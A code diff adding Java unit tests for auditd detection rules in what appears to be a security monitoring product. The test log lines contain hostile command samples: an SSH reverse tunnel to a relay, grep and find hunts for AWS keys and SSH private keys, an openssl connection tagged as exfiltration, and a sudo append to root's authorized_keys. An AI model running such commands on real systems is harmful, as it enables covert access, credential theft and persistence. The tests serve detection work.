@@ -135,4 +135,28 @@ class AuditdRulesTest {
     org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.015:7015): argc=4 a0=\"tar\" "
         + "a1=\"-czf\" a2=\"/backup/etc.tgz\" a3=\"/etc\"")).isEmpty();
   }
+
+  @Test
+  void reverseTunnelSecretHuntingAndOpensslPipe() {
+    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.100:9900): argc=6 a0=\"ssh\" a1=\"-fN\" "
+        + "a2=\"-R\" a3=\"7022:127.0.0.1:22\" a4=\"relay@203.0.113.90\" a5=\"-q\"")).contains("shield-auditd-c2-010");
+    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.200:9901): argc=3 a0=\"ssh\" "
+        + "a1=\"admin@10.1.2.3\" a2=\"uptime\"")).doesNotContain("shield-auditd-c2-010");
+    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.300:9902): argc=5 a0=\"grep\" a1=\"-ri\" "
+        + "a2=\"aws_access_key_id\" a3=\"/home\" a4=\"/etc\"")).contains("shield-auditd-cred-010");
+    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.400:9903): argc=4 a0=\"find\" a1=\"/\" "
+        + "a2=\"-name\" a3=\"id_rsa\"")).contains("shield-auditd-cred-010");
+    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.500:9904): argc=3 a0=\"grep\" a1=\"-i\" "
+        + "a2=\"error\"")).doesNotContain("shield-auditd-cred-010");
+    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.600:9905): argc=5 a0=\"openssl\" "
+        + "a1=\"s_client\" a2=\"-connect\" a3=\"203.0.113.91:8443\" a4=\"-quiet\"")).contains("shield-auditd-exfil-010");
+  }
+
+  @Test
+  void sudoCommandRecordAppendingToAuthorizedKeys() {
+    String line = "type=USER_CMD msg=audit(1764590100.100:9910): pid=4410 uid=1005 auid=1005 ses=3 msg='cwd=\"/tmp\" "
+        + "cmd=" + hexPlain("/usr/bin/tee -a /root/.ssh/authorized_keys") + " exe=\"/usr/bin/sudo\" terminal=pts/1 "
+        + "res=success'";
+    assertThat(firedAlone(AUDITD, line)).contains("shield-auditd-persist-004");
+  }
 }
